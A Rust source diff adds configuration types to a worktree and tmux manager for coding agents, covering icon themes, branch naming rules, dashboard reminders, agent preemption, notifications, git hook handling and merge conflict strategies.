@@ -1,9 +1,12 @@
 use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
 use std::env;
 use std::fs;
 use std::path::{Path, PathBuf};
+use std::sync::OnceLock;
 use tracing::debug;
 
+use crate::multiplexer::AgentStatus;
 use crate::{cmd, nerdfont, vcs};
 use which::{which, which_in};
 
@@ -24,28 +27,78 @@ pub struct FileConfig {
     pub symlink: Option<Vec<String>>,
 }
 
+/// Named set of agent status icons.
+#[derive(Debug, Deserialize, Serialize, Default, Clone, Copy, PartialEq, Eq)]
+#[serde(rename_all = "lowercase")]
+pub enum IconTheme {
+    /// Nerd Font glyphs; needs a patched font
+    Nerdfont,
+    /// Emoji, shown by most terminals
+    #[default]
+    Emoji,
+    /// Plain ASCII for terminals without emoji or wide-character support
+    Ascii,
+}
+
+impl IconTheme {
+    /// Name as written in config.
+    pub fn name(self) -> &'static str {
+        match self {
+            IconTheme::Nerdfont => "nerdfont",
+            IconTheme::Emoji => "emoji",
+            IconTheme::Ascii => "ascii",
+        }
+    }
+
+    /// Working, waiting, done and unknown icons of the theme.
+    fn icons(self) -> (&'static str, &'static str, &'static str, &'static str) {
+        match self {
+            IconTheme::Nerdfont => (
+                "\u{f06a9}", // nf-md-robot
+                "\u{f0369}", // nf-md-message_processing
+                "\u{f0134}", // nf-md-check_circle
+                "\u{f02d7}", // nf-md-help_circle
+            ),
+            IconTheme::Emoji => ("🤖", "💬", "✅", "❔"),
+            IconTheme::Ascii => ("*", "?", "+", "x"),
+        }
+    }
+}
+
 /// Configuration for agent status icons displayed in tmux window bar
 #[derive(Debug, Deserialize, Serialize, Default, Clone)]
 pub struct StatusIcons {
-    /// Icon shown when agent is working. Default: 🤖
+    /// Icon set the icons below default to. Default: emoji
+    pub theme: Option<IconTheme>,
+    /// Icon shown when agent is working. Default: from the theme
     pub working: Option<String>,
-    /// Icon shown when agent is waiting for input. Default: 💬
+    /// Icon shown when agent is waiting for input. Default: from the theme
     pub waiting: Option<String>,
-    /// Icon shown when agent is done. Default: ✅
+    /// Icon shown when agent is done. Default: from the theme
     pub done: Option<String>,
+    /// Icon shown when agent stopped reporting without finishing. Default: from the theme
+    pub unknown: Option<String>,
 }
 
 impl StatusIcons {
+    pub fn theme(&self) -> IconTheme {
+        self.theme.unwrap_or_default()
+    }
+
     pub fn working(&self) -> &str {
-        self.working.as_deref().unwrap_or("🤖")
+        self.working.as_deref().unwrap_or(self.theme().icons().0)
     }
 
     pub fn waiting(&self) -> &str {
-        self.waiting.as_deref().unwrap_or("💬")
+        self.waiting.as_deref().unwrap_or(self.theme().icons().1)
     }
 
     pub fn done(&self) -> &str {
-        self.done.as_deref().unwrap_or("✅")
+        self.done.as_deref().unwrap_or(self.theme().icons().2)
+    }
+
+    pub fn unknown(&self) -> &str {
+        self.unknown.as_deref().unwrap_or(self.theme().icons().3)
     }
 }
 
@@ -65,6 +118,53 @@ pub struct AutoNameConfig {
     pub background: Option<bool>,
 }
 
+/// Branch naming rules enforced by `workmux add`
+#[derive(Debug, Deserialize, Serialize, Default, Clone)]
+pub struct BranchPolicyConfig {
+    /// Regex new branch names must match, e.g. `^(feat|fix)/[A-Z]+-\d+-.+$`.
+    /// Default: none (any name)
+    pub pattern: Option<String>,
+
+    /// Template building a branch name from the given or generated name
+    /// when that name doesn't match `pattern`. Placeholders: `{type}`,
+    /// `{ticket}`, `{name}`. Default: none (names are only checked)
+    pub template: Option<String>,
+
+    /// Value of `{type}` in the template.
+    /// Default: "feat"
+    #[serde(rename = "type")]
+    pub kind: Option<String>,
+
+    /// Where `{ticket}` comes from (global config only).
+    /// Default: none (templates using `{ticket}` fail)
+    pub ticket: Option<TicketSource>,
+}
+
+impl BranchPolicyConfig {
+    /// Value of `{type}` in the template.
+    /// Default: "feat"
+    pub fn kind(&self) -> &str {
+        self.kind.as_deref().unwrap_or("feat")
+    }
+}
+
+/// Source of the ticket ID in `branch_policy.template`.
+///
+/// Exactly one source key must be set:
+/// - `{ env: JIRA_TICKET }` reads an environment variable
+/// - `{ command: "jira issue current" }` runs a shell command
+/// - `{ prompt: "Ticket" }` asks on the terminal
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq)]
+#[serde(untagged)]
+pub enum TicketSource {
+    /// Environment variable
+    Env { env: String },
+    /// First line of a shell command's output
+    Command { command: String },
+    /// Answer to a question asked on the terminal
+    Prompt { prompt: String },
+}
+
 /// Configuration for dashboard actions (commit, merge keybindings)
 #[derive(Debug, Deserialize, Serialize, Default, Clone)]
 pub struct DashboardConfig {
@@ -83,6 +183,44 @@ pub struct DashboardConfig {
     /// Show check pass/total counts alongside check icon (default: false)
     #[serde(default)]
     pub show_check_counts: Option<bool>,
+
+    /// Poll OpenCode's HTTP server for detailed progress (default: false)
+    #[serde(default)]
+    pub opencode_server: Option<bool>,
+
+    /// Ask for confirmation before destructive actions like merge (default: true)
+    #[serde(default)]
+    pub confirm: Option<bool>,
+
+    /// Set the terminal title to the handle jumped to (default: true)
+    #[serde(default)]
+    pub set_title: Option<bool>,
+
+    /// Minutes an agent can be waiting before the dashboard reminds you
+    /// (default: no reminders)
+    #[serde(default)]
+    pub remind_after: Option<u64>,
+
+    /// Minutes between repeated reminders (default: remind_after)
+    #[serde(default)]
+    pub remind_every: Option<u64>,
+
+    /// Raise a desktop notification for repeated reminders (default: true)
+    #[serde(default)]
+    pub remind_notify: Option<bool>,
+
+    /// Ring the terminal bell for reminders after the second (default: false)
+    #[serde(default)]
+    pub remind_bell: Option<bool>,
+
+    /// Lines of agent output saved as merge evidence (e key) (default: 40)
+    #[serde(default)]
+    pub evidence_lines: Option<u16>,
+
+    /// Watch worktrees for file changes and re-check their git status right
+    /// away instead of polling (default: false)
+    #[serde(default)]
+    pub watch_files: Option<bool>,
 }
 
 impl DashboardConfig {
@@ -107,6 +245,457 @@ impl DashboardConfig {
     pub fn show_check_counts(&self) -> bool {
         self.show_check_counts.unwrap_or(false)
     }
+
+    /// Whether to pull progress from OpenCode server mode.
+    /// Default: false
+    pub fn opencode_server(&self) -> bool {
+        self.opencode_server.unwrap_or(false)
+    }
+
+    /// Whether file changes trigger git status checks (polling covers
+    /// worktrees that can't be watched).
+    /// Default: false
+    pub fn watch_files(&self) -> bool {
+        self.watch_files.unwrap_or(false)
+    }
+
+    /// Whether destructive actions ask for confirmation first.
+    /// Default: true
+    pub fn confirm(&self) -> bool {
+        self.confirm.unwrap_or(true)
+    }
+
+    /// Whether jumping to an agent sets the terminal title to its handle.
+    /// Default: true
+    pub fn set_title(&self) -> bool {
+        self.set_title.unwrap_or(true)
+    }
+
+    /// Minutes of waiting before the first reminder.
+    /// Default: None (no reminders)
+    pub fn remind_after(&self) -> Option<u64> {
+        self.remind_after
+    }
+
+    /// Minutes between repeated reminders.
+    /// Default: None (same as `remind_after`)
+    pub fn remind_every(&self) -> Option<u64> {
+        self.remind_every
+    }
+
+    /// Whether repeated reminders raise a desktop notification.
+    /// Default: true
+    pub fn remind_notify(&self) -> bool {
+        self.remind_notify.unwrap_or(true)
+    }
+
+    /// Whether later reminders ring the terminal bell.
+    /// Default: false
+    pub fn remind_bell(&self) -> bool {
+        self.remind_bell.unwrap_or(false)
+    }
+
+    /// Number of pane lines the evidence action saves.
+    /// Default: 40
+    pub fn evidence_lines(&self) -> u16 {
+        self.evidence_lines.unwrap_or(40).max(1)
+    }
+}
+
+/// Repository metadata key set when a project's window names are qualified
+/// with the project name to avoid colliding with another project's windows.
+pub const QUALIFY_PREFIX_META: &str = "qualifyprefix";
+
+/// Repository metadata key set once the pre-flight checks for `add` pass.
+pub const PREFLIGHT_META: &str = "preflight";
+
+/// Short project name used for `window_prefixes` and qualified window names:
+/// the main worktree's directory name.
+pub fn project_name(main_worktree_root: &Path) -> String {
+    main_worktree_root
+        .file_name()
+        .map(|n| n.to_string_lossy().into_owned())
+        .unwrap_or_else(|| "project".to_string())
+}
+
+/// Qualify a window prefix with a project name (`wm-` + `api` -> `wm-api/`).
+pub fn qualified_prefix(prefix: &str, project: &str) -> String {
+    format!("{}{}/", prefix, project)
+}
+
+/// Inverse of `qualified_prefix`. Returns None if `prefix` is not qualified.
+pub fn unqualified_prefix<'a>(prefix: &'a str, project: &str) -> Option<&'a str> {
+    prefix.strip_suffix('/')?.strip_suffix(project)
+}
+
+/// Configuration for bundling a branch's commits before cleanup deletes it
+#[derive(Debug, Deserialize, Serialize, Default, Clone)]
+pub struct BranchBackupConfig {
+    /// Write a bundle of the branch's unmerged commits before deleting it.
+    /// Default: false
+    pub enabled: Option<bool>,
+
+    /// Days to keep bundles before they are pruned.
+    /// Default: 30
+    pub keep_days: Option<u64>,
+}
+
+impl BranchBackupConfig {
+    /// Whether branches are backed up before deletion.
+    /// Default: false
+    pub fn enabled(&self) -> bool {
+        self.enabled.unwrap_or(false)
+    }
+
+    /// Days to keep bundles.
+    /// Default: 30
+    pub fn keep_days(&self) -> u64 {
+        self.keep_days.unwrap_or(30)
+    }
+}
+
+/// Retention windows for `workmux gc`
+#[derive(Debug, Deserialize, Serialize, Default, Clone)]
+pub struct GcConfig {
+    /// Days to keep pane transcripts of a worktree after its last write.
+    /// Default: 14
+    pub logs_days: Option<u64>,
+
+    /// Days to keep prompt files written to the temp directory.
+    /// Default: 7
+    pub prompts_days: Option<u64>,
+
+    /// Days a stopped sandbox VM or container is kept after it was last used.
+    /// Default: 7
+    pub sandbox_days: Option<u64>,
+}
+
+impl GcConfig {
+    /// Days to keep pane transcripts.
+    /// Default: 14
+    pub fn logs_days(&self) -> u64 {
+        self.logs_days.unwrap_or(14)
+    }
+
+    /// Days to keep temporary prompt files.
+    /// Default: 7
+    pub fn prompts_days(&self) -> u64 {
+        self.prompts_days.unwrap_or(7)
+    }
+
+    /// Days to keep stopped sandboxes.
+    /// Default: 7
+    pub fn sandbox_days(&self) -> u64 {
+        self.sandbox_days.unwrap_or(7)
+    }
+}
+
+/// Priority of a worktree's agent, used by `preemption`.
+#[derive(Debug, Deserialize, Serialize, Clone, Copy, Default, PartialEq, Eq, PartialOrd, Ord)]
+#[serde(rename_all = "lowercase")]
+pub enum Priority {
+    Low,
+    #[default]
+    Normal,
+    High,
+}
+
+impl Priority {
+    /// Parse a priority name (`low`, `normal`, `high`).
+    pub fn parse(name: &str) -> Option<Self> {
+        match name {
+            "low" => Some(Self::Low),
+            "normal" => Some(Self::Normal),
+            "high" => Some(Self::High),
+            _ => None,
+        }
+    }
+}
+
+/// Keys that pause an agent and the input that resumes it.
+#[derive(Debug, Deserialize, Serialize, Default, Clone, PartialEq)]
+pub struct PreemptionKeys {
+    /// Keys sent to interrupt the agent (tmux key names, e.g. `Escape`)
+    pub pause: Option<Vec<String>>,
+
+    /// Text typed (followed by Enter) to resume the agent
+    pub resume: Option<String>,
+}
+
+/// Pausing lower-priority agents while a higher-priority one works
+#[derive(Debug, Deserialize, Serialize, Default, Clone)]
+pub struct PreemptionConfig {
+    /// Pause working agents when an agent with a higher priority starts.
+    /// Default: false
+    pub enabled: Option<bool>,
+
+    /// Pause/resume keys per agent profile name, with `default` for agents
+    /// not listed. Unset entries use the profile's built-in keys.
+    pub agents: Option<BTreeMap<String, PreemptionKeys>>,
+}
+
+impl PreemptionConfig {
+    /// Whether preemption is enabled.
+    /// Default: false
+    pub fn enabled(&self) -> bool {
+        self.enabled.unwrap_or(false)
+    }
+
+    /// Configured keys for the agent profile named `profile` (e.g. "claude").
+    pub fn keys_for(&self, profile: &str) -> Option<&PreemptionKeys> {
+        let agents = self.agents.as_ref()?;
+        agents.get(profile).or_else(|| agents.get("default"))
+    }
+}
+
+/// Notifications when an agent starts waiting or finishes
+#[derive(Debug, Deserialize, Serialize, Default, Clone)]
+pub struct NotificationsConfig {
+    /// Statuses that notify.
+    /// Default: [waiting, done]
+    pub on: Option<Vec<AgentStatus>>,
+
+    /// Show a desktop notification.
+    /// Default: false
+    pub desktop: Option<bool>,
+
+    /// URL the change is POSTed to as JSON. The `text` field makes it work
+    /// with Slack-style incoming webhooks.
+    pub webhook: Option<String>,
+
+    /// Shell command run with the change in `WORKMUX_*` environment variables
+    pub command: Option<String>,
+}
+
+impl NotificationsConfig {
+    /// Whether a change to `status` notifies.
+    pub fn notifies(&self, status: AgentStatus) -> bool {
+        match &self.on {
+            Some(on) => on.contains(&status),
+            None => matches!(status, AgentStatus::Waiting | AgentStatus::Done),
+        }
+    }
+
+    /// Whether desktop notifications are shown.
+    /// Default: false
+    pub fn desktop(&self) -> bool {
+        self.desktop.unwrap_or(false)
+    }
+
+    /// Whether any sink is configured.
+    pub fn is_enabled(&self) -> bool {
+        self.desktop() || self.webhook.is_some() || self.command.is_some()
+    }
+}
+
+/// A git operation workmux runs that can fire the repository's own hooks.
+#[derive(Debug, Deserialize, Serialize, Clone, Copy, PartialEq, Eq)]
+#[serde(rename_all = "lowercase")]
+pub enum GitHookOp {
+    /// `git merge` creating the merge commit
+    Merge,
+    /// `git commit` for staged changes and squash merges
+    Commit,
+    /// `git push` after merging
+    Push,
+}
+
+impl GitHookOp {
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Self::Merge => "merge",
+            Self::Commit => "commit",
+            Self::Push => "push",
+        }
+    }
+}
+
+/// How workmux deals with the repository's own git hooks (husky, pre-commit)
+#[derive(Debug, Deserialize, Serialize, Default, Clone)]
+pub struct GitHooksConfig {
+    /// Git operations run with `--no-verify`.
+    /// Default: none
+    pub skip: Option<Vec<GitHookOp>>,
+
+    /// Install the hooks' dependencies before the other `post_create` hooks.
+    /// Default: false
+    pub install: Option<bool>,
+}
+
+impl GitHooksConfig {
+    /// Whether `op` runs with `--no-verify`.
+    pub fn skips(&self, op: GitHookOp) -> bool {
+        self.skip.as_ref().is_some_and(|ops| ops.contains(&op))
+    }
+
+    /// Whether hook dependencies are installed in new worktrees.
+    /// Default: false
+    pub fn install(&self) -> bool {
+        self.install.unwrap_or(false)
+    }
+}
+
+/// Lines typed into an agent pane after the agent starts, before the prompt.
+///
+/// Supports two forms:
+/// - List: `["/model opus"]` (sent to every agent)
+/// - Map by agent profile: `{ claude: ["/model opus"], default: [] }`
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq)]
+#[serde(untagged)]
+pub enum AgentInit {
+    /// Lines for every agent
+    All(Vec<String>),
+    /// Lines per agent profile name, with `default` for agents not listed
+    PerAgent(BTreeMap<String, Vec<String>>),
+}
+
+impl AgentInit {
+    /// Lines for the agent profile named `profile` (e.g. "claude").
+    pub fn lines_for(&self, profile: &str) -> &[String] {
+        match self {
+            Self::All(lines) => lines,
+            Self::PerAgent(map) => map
+                .get(profile)
+                .or_else(|| map.get("default"))
+                .map_or(&[], Vec::as_slice),
+        }
+    }
+}
+
+/// How input typed or pasted into an agent is submitted.
+#[derive(Debug, Deserialize, Serialize, Default, Clone, PartialEq)]
+pub struct AgentSubmit {
+    /// Keys pressed to submit (tmux key names, e.g. `Enter`, `M-Enter`)
+    pub keys: Option<Vec<String>>,
+
+    /// Milliseconds to wait after typing or pasting before submitting
+    pub delay_ms: Option<u64>,
+
+    /// Paste long input in chunks of this many characters
+    pub paste_chunk_size: Option<usize>,
+
+    /// Milliseconds to wait between pasted chunks. Default: 100
+    pub paste_chunk_delay_ms: Option<u64>,
+}
+
+/// Where a `post_create` hook runs.
+#[derive(Debug, Deserialize, Serialize, Clone, Copy, Default, PartialEq, Eq)]
+#[serde(rename_all = "lowercase")]
+pub enum HookLocation {
+    /// On the host, in the new worktree
+    #[default]
+    Host,
+    /// Inside the worktree's Lima VM (host when the worktree has no VM)
+    Guest,
+}
+
+/// A `post_create` hook.
+///
+/// Supports two forms:
+/// - Simple string: `"pnpm install"` (runs on the host)
+/// - Detailed spec: `{ command: "mise install", where: guest }`
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq)]
+#[serde(untagged)]
+pub enum PostCreateHook {
+    /// Command run on the host
+    Command(String),
+    /// Command with where it runs
+    Spec {
+        command: String,
+        #[serde(default, rename = "where")]
+        location: HookLocation,
+    },
+}
+
+impl PostCreateHook {
+    pub fn command(&self) -> &str {
+        match self {
+            Self::Command(command) | Self::Spec { command, .. } => command,
+        }
+    }
+
+    pub fn location(&self) -> HookLocation {
+        match self {
+            Self::Command(_) => HookLocation::Host,
+            Self::Spec { location, .. } => *location,
+        }
+    }
+}
+
+/// Configuration for the shell-startup handshake and command injection into new panes
+#[derive(Debug, Deserialize, Serialize, Default, Clone)]
+pub struct HandshakeConfig {
+    /// Seconds to wait for a new pane's shell to signal readiness.
+    /// Default: 5
+    pub timeout: Option<u64>,
+
+    /// Milliseconds between readiness checks while waiting.
+    /// Default: 50
+    pub poll_interval_ms: Option<u64>,
+
+    /// Number of times to re-send a pane command when it does not appear to
+    /// have reached the shell (verified by capturing pane content).
+    /// Default: 0 (no verification)
+    pub retries: Option<u32>,
+
+    /// Verify that text sent to an agent's input (`workmux send`, dashboard
+    /// commit/merge) arrived intact before pressing Enter.
+    /// Default: false
+    pub verify_input: Option<bool>,
+
+    /// Type prompts into agents once they have started instead of passing
+    /// them on the command line, queueing them while an agent isn't ready.
+    /// Prompts are always typed when `agent_init` is set.
+    /// Default: false
+    pub queue_prompts: Option<bool>,
+
+    /// Text an agent shows while it isn't ready for input (a login or MFA
+    /// screen). Prompts are queued while it is visible.
+    /// Default: the agent's known login screens
+    pub not_ready_text: Option<Vec<String>>,
+
+    /// Automatic attempts to deliver a queued prompt, with growing delays,
+    /// before it waits for `workmux send --flush`.
+    /// Default: 8
+    pub prompt_retries: Option<u32>,
+}
+
+impl HandshakeConfig {
+    /// Get the handshake timeout in seconds (minimum 1).
+    /// Default: 5
+    pub fn timeout(&self) -> u64 {
+        self.timeout.unwrap_or(5).max(1)
+    }
+
+    /// Get the poll interval in milliseconds (clamped to 10-1000).
+    /// Default: 50
+    pub fn poll_interval_ms(&self) -> u64 {
+        self.poll_interval_ms.unwrap_or(50).clamp(10, 1000)
+    }
+
+    /// Get the number of re-send attempts after a failed injection check.
+    /// Default: 0
+    pub fn retries(&self) -> u32 {
+        self.retries.unwrap_or(0)
+    }
+
+    /// Whether to verify agent input before submitting it.
+    /// Default: false
+    pub fn verify_input(&self) -> bool {
+        self.verify_input.unwrap_or(false)
+    }
+
+    /// Whether prompts are typed into agents and queued until they're ready.
+    /// Default: false
+    pub fn queue_prompts(&self) -> bool {
+        self.queue_prompts.unwrap_or(false)
+    }
+
+    /// Get the number of automatic attempts to deliver a queued prompt.
+    /// Default: 8
+    pub fn prompt_retries(&self) -> u32 {
+        self.prompt_retries.unwrap_or(8)
+    }
 }
 
 /// Configuration for a single window within a session (session mode only)
@@ -128,15 +717,29 @@ pub struct Config {
     #[serde(default)]
     pub main_branch: Option<String>,
 
+    /// Default bases for new branches by name pattern, first match wins
+    #[serde(default)]
+    pub base_branches: Option<Vec<BaseBranchRule>>,
+
     /// Directory where worktrees should be created (optional, defaults to <project>__worktrees pattern)
     /// Can be relative to repo root or absolute path
     #[serde(default)]
     pub worktree_dir: Option<String>,
 
+    /// Directory for snapshots made by `workmux remove --archive` (absolute
+    /// or `~/...`). Default: `<state>/workmux/archives`
+    #[serde(default)]
+    pub archive_dir: Option<String>,
+
     /// Prefix for tmux window names (optional, defaults to "wm-")
     #[serde(default)]
     pub window_prefix: Option<String>,
 
+    /// Per-project window prefixes keyed by project name (the main worktree's
+    /// directory name). Takes precedence over `window_prefix`.
+    #[serde(default)]
+    pub window_prefixes: Option<BTreeMap<String, String>>,
+
     /// Tmux pane configuration (single window layout, mutually exclusive with `windows`)
     #[serde(default)]
     pub panes: Option<Vec<PaneConfig>>,
@@ -145,9 +748,32 @@ pub struct Config {
     #[serde(default)]
     pub windows: Option<Vec<WindowConfig>>,
 
+    /// Named pane layouts selected with `workmux add --layout`
+    #[serde(default)]
+    pub layouts: Option<BTreeMap<String, Vec<PaneConfig>>>,
+
+    /// Named overlays on top of the rest of the config, selected with
+    /// `--profile` or `WORKMUX_PROFILE`
+    #[serde(default)]
+    pub profiles: Option<BTreeMap<String, Config>>,
+
+    /// Narrowest a pane is made, in columns, when sizing splits to fit the
+    /// window. Default: 20
+    #[serde(default)]
+    pub min_pane_width: Option<u16>,
+
+    /// Shortest a pane is made, in lines, when sizing splits to fit the
+    /// window. Default: 5
+    #[serde(default)]
+    pub min_pane_height: Option<u16>,
+
+    /// Named groups of worktree handles, operated on with `workmux group`
+    #[serde(default)]
+    pub groups: Option<BTreeMap<String, Vec<String>>>,
+
     /// Commands to run after creating the worktree
     #[serde(default)]
-    pub post_create: Option<Vec<String>>,
+    pub post_create: Option<Vec<PostCreateHook>>,
 
     /// Commands to run before merging (e.g., linting, tests)
     #[serde(default)]
@@ -161,10 +787,46 @@ pub struct Config {
     #[serde(default)]
     pub agent: Option<String>,
 
+    /// Lines typed into agent panes after the agent starts, before the prompt
+    #[serde(default)]
+    pub agent_init: Option<AgentInit>,
+
+    /// How input is submitted, per agent profile name with `default` for
+    /// agents not listed
+    #[serde(default)]
+    pub agent_submit: Option<BTreeMap<String, AgentSubmit>>,
+
     /// Default merge strategy for `workmux merge`
     #[serde(default)]
     pub merge_strategy: Option<MergeStrategy>,
 
+    /// What `workmux merge` does when the merge has conflicts
+    #[serde(default)]
+    pub merge_on_conflict: Option<ConflictStrategy>,
+
+    /// Push the target branch to its remote after `workmux merge`
+    #[serde(default)]
+    pub merge_push: Option<bool>,
+
+    /// Delete the merged branch on its remote after `workmux merge`
+    #[serde(default)]
+    pub merge_delete_remote: Option<bool>,
+
+    /// Code host of the repository, for fork remotes and pull requests
+    /// (auto-detected from the origin host if not set)
+    #[serde(default)]
+    pub provider: Option<ForgeProvider>,
+
+    /// Force-push (with lease) the rebased branch before merging it
+    #[serde(default)]
+    pub merge_push_rebased: Option<bool>,
+
+    /// Remote of the canonical repository when `origin` is your fork. The
+    /// merge never pushes to it, and `workmux merge --to-upstream` rebases
+    /// onto its default branch. Default: `upstream`, when that remote exists
+    #[serde(default)]
+    pub upstream_remote: Option<String>,
+
     /// Strategy for deriving worktree/window names from branch names
     #[serde(default)]
     pub worktree_naming: WorktreeNaming,
@@ -186,10 +848,51 @@ pub struct Config {
     #[serde(default)]
     pub status_icons: StatusIcons,
 
+    /// Seconds without a heartbeat after which a working or waiting agent
+    /// whose process is gone, or a working agent idle at its prompt, is
+    /// marked unknown. 0 disables the check.
+    /// Default: 300
+    #[serde(default)]
+    pub heartbeat_timeout: Option<u64>,
+
+    /// Refuse to send prompts or input to agents in the main worktree
+    /// unless `--allow-main` is passed. Default: false
+    #[serde(default)]
+    pub protect_main: Option<bool>,
+
+    /// Maximum prompt size in KB. Default: 100
+    #[serde(default)]
+    pub max_prompt_kb: Option<u64>,
+
+    /// Keep prompt text out of the log file (only its size is logged).
+    /// Default: true
+    #[serde(default)]
+    pub redact_prompts: Option<bool>,
+
+    /// Text put before every prompt given to `add` or `open` (project
+    /// conventions, rules for agents). Skipped with `--no-guardrails`.
+    /// Default: None
+    #[serde(default)]
+    pub prompt_prefix: Option<String>,
+
+    /// Text put after every prompt given to `add` or `open`.
+    /// Skipped with `--no-guardrails`. Default: None
+    #[serde(default)]
+    pub prompt_suffix: Option<String>,
+
+    /// Check the quoting of generated pane commands and reject branch names
+    /// that need quoting. Default: false
+    #[serde(default)]
+    pub strict_quoting: Option<bool>,
+
     /// Configuration for LLM-based branch name generation
     #[serde(default)]
     pub auto_name: Option<AutoNameConfig>,
 
+    /// Branch naming rules enforced by `workmux add`
+    #[serde(default)]
+    pub branch_policy: BranchPolicyConfig,
+
     /// Dashboard actions configuration
     #[serde(default)]
     pub dashboard: DashboardConfig,
@@ -202,18 +905,60 @@ pub struct Config {
     #[serde(default)]
     pub theme: Theme,
 
+    /// Whether command output links paths and PRs with OSC 8 hyperlinks
+    #[serde(default)]
+    pub hyperlinks: Option<bool>,
+
     /// Mode for tmux operations: window (default) or session
     /// None means "use default" (Window), Some means explicitly set
     #[serde(default)]
     pub mode: Option<MuxMode>,
 
+    /// What `workmux add` does when a window with the target name already exists
+    #[serde(default)]
+    pub on_collision: Option<WindowCollision>,
+
+    /// Whether `workmux add` switches to the window it creates
+    #[serde(default)]
+    pub focus_new_window: Option<FocusPolicy>,
+
     /// Container sandbox configuration
     #[serde(default)]
     pub sandbox: SandboxConfig,
+
+    /// Pane startup handshake and command injection settings
+    #[serde(default)]
+    pub handshake: HandshakeConfig,
+
+    /// Bundle backups of branches deleted during cleanup
+    #[serde(default)]
+    pub branch_backup: BranchBackupConfig,
+
+    /// Retention windows for `workmux gc`
+    #[serde(default)]
+    pub gc: GcConfig,
+
+    /// Handling of the repository's own git hooks
+    #[serde(default)]
+    pub git_hooks: GitHooksConfig,
+
+    /// Priority of this project's agents for `preemption`. A
+    /// `priority:<level>` tag on a worktree overrides it. Default: normal
+    #[serde(default)]
+    pub priority: Option<Priority>,
+
+    /// Pausing of lower-priority agents (global config only)
+    #[serde(default)]
+    pub preemption: PreemptionConfig,
+
+    /// Desktop, webhook and command notifications on agent status changes
+    /// (global config only)
+    #[serde(default)]
+    pub notifications: NotificationsConfig,
 }
 
 /// Configuration for a single tmux pane
-#[derive(Debug, Deserialize, Serialize, Clone)]
+#[derive(Debug, Deserialize, Serialize, Clone, Default)]
 pub struct PaneConfig {
     /// A command to run when the pane is created. The pane will remain open
     /// with an interactive shell after the command completes. If not provided,
@@ -244,12 +989,67 @@ pub struct PaneConfig {
     /// Only used when `split` is specified.
     #[serde(default)]
     pub target: Option<usize>,
+
+    /// 0-based indices of panes that must be ready (per their `wait_for`)
+    /// before this pane's command starts.
+    #[serde(default)]
+    pub depends_on: Option<Vec<usize>>,
+
+    /// Readiness check for this pane's command, used by panes that list it
+    /// in `depends_on`.
+    #[serde(default)]
+    pub wait_for: Option<PaneWaitFor>,
+
+    /// Lines of scrollback to keep for this pane (tmux `history-limit`).
+    #[serde(default)]
+    pub history_limit: Option<u32>,
+
+    /// Transcribe everything the pane prints to a file in the log directory.
+    #[serde(default)]
+    pub log_output: bool,
 }
 
-#[derive(Debug, Deserialize, Serialize, Clone, PartialEq)]
+/// Conditions that mark a pane's command as ready. All configured conditions
+/// must hold.
+#[derive(Debug, Deserialize, Serialize, Clone, Default, PartialEq)]
+pub struct PaneWaitFor {
+    /// TCP port on localhost that accepts connections once ready
+    #[serde(default)]
+    pub port: Option<u16>,
+
+    /// File (relative to the pane's working directory) that exists once ready
+    #[serde(default)]
+    pub file: Option<String>,
+
+    /// Shell command that exits successfully once ready
+    #[serde(default)]
+    pub command: Option<String>,
+
+    /// Seconds to wait before giving up. Default: 60
+    #[serde(default)]
+    pub timeout: Option<u64>,
+}
+
+impl PaneWaitFor {
+    /// Get the readiness timeout in seconds.
+    /// Default: 60
+    pub fn timeout(&self) -> u64 {
+        self.timeout.unwrap_or(60)
+    }
+
+    fn is_empty(&self) -> bool {
+        self.port.is_none() && self.file.is_none() && self.command.is_none()
+    }
+}
+
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq, clap::ValueEnum)]
 #[serde(rename_all = "lowercase")]
 pub enum SplitDirection {
+    /// Side by side
+    #[value(alias = "h")]
     Horizontal,
+    /// One above the other
+    #[value(alias = "v")]
     Vertical,
 }
 
@@ -262,6 +1062,31 @@ pub enum MergeStrategy {
     Squash,
 }
 
+/// What `workmux merge` does when merging the branch has conflicts
+#[derive(Debug, Deserialize, Serialize, Clone, Copy, PartialEq, Default, clap::ValueEnum)]
+#[serde(rename_all = "lowercase")]
+pub enum ConflictStrategy {
+    /// Abort the merge, keep the target clean and report how to resolve (default)
+    #[default]
+    Abort,
+    /// Leave the conflicts in the branch's worktree and send a notification
+    Keep,
+    /// Leave the conflicts in the worktree and ask its agent to resolve them
+    /// and run the merge again
+    Agent,
+}
+
+impl ConflictStrategy {
+    /// Value of the `--on-conflict` flag
+    pub fn as_str(self) -> &'static str {
+        match self {
+            ConflictStrategy::Abort => "abort",
+            ConflictStrategy::Keep => "keep",
+            ConflictStrategy::Agent => "agent",
+        }
+    }
+}
+
 /// Color theme for the dashboard
 #[derive(Debug, Deserialize, Serialize, Clone, Copy, Default, PartialEq)]
 #[serde(rename_all = "lowercase")]
@@ -282,6 +1107,47 @@ pub enum MuxMode {
     Session,
 }
 
+/// What `workmux add` does when a window or session with the target name already exists
+#[derive(Debug, Deserialize, Serialize, Clone, Copy, PartialEq, Default, clap::ValueEnum)]
+#[serde(rename_all = "lowercase")]
+pub enum WindowCollision {
+    /// Refuse to create the worktree (default)
+    #[default]
+    Fail,
+    /// Switch to the existing window when it belongs to the branch's worktree
+    Reuse,
+    /// Close the existing window and create a fresh one
+    Replace,
+    /// Keep the existing window and open a numbered one (e.g. `-2`) next to it
+    Suffix,
+}
+
+/// Code host serving the repository's pull (or merge) requests
+#[derive(Debug, Deserialize, Serialize, Clone, Copy, PartialEq, Eq, Default)]
+#[serde(rename_all = "lowercase")]
+pub enum ForgeProvider {
+    /// GitHub or GitHub Enterprise, through the `gh` CLI (default)
+    #[default]
+    Github,
+    /// GitLab, through the `glab` CLI
+    Gitlab,
+    /// Gitea or Forgejo, through its REST API
+    Gitea,
+}
+
+/// Whether `workmux add` switches to the window or session it creates
+#[derive(Debug, Deserialize, Serialize, Clone, Copy, PartialEq, Default, clap::ValueEnum)]
+#[serde(rename_all = "kebab-case")]
+pub enum FocusPolicy {
+    /// Always switch to the new window (default)
+    #[default]
+    Always,
+    /// Create the window in the background
+    Never,
+    /// Switch only when no agent in the window you're on is working
+    IfIdle,
+}
+
 /// Strategy for deriving worktree/window names from branch names
 #[derive(Debug, Deserialize, Serialize, Clone, Default, PartialEq)]
 #[serde(rename_all = "lowercase")]
@@ -444,6 +1310,27 @@ impl ExtraMount {
     }
 }
 
+/// Source for a secret injected into the sandboxed agent process.
+///
